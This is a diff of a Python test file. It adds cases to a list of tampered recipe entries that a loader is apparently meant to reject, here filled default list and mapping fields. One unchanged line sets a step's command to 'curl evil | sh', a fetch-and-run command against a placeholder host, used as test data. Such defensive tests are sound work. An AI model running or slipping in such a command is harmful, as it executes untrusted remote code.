@@ -196,6 +196,9 @@ def hostile_entries(entry: dict[str, Any]) -> dict[str, bytes]:
         "a set field unset": edited(lambda c: c["recipe"]["s"].remove("steps")),
         "the command changed": edited(lambda c: step(c).update(cmd="curl evil | sh")),
         "a default changed": edited(lambda c: step(c).update(always_run=True)),
+        # defaults made by a factory (`list`, `dict`), compared from one value per model class
+        "a default list filled": edited(lambda c: step(c).update(deps={"l": ["evil.txt"]})),
+        "a default mapping filled": edited(lambda c: step(c).update(env={"d": [["X", "1"]]})),
         "an unknown encoding": edited(lambda c: step(c).update(cmd={"x": 1})),
         "a number for a string": edited(lambda c: step(c).update(cmd=3)),
         "a number changed": edited(lambda c: c["recipe"]["f"].update(schema_version=2)),
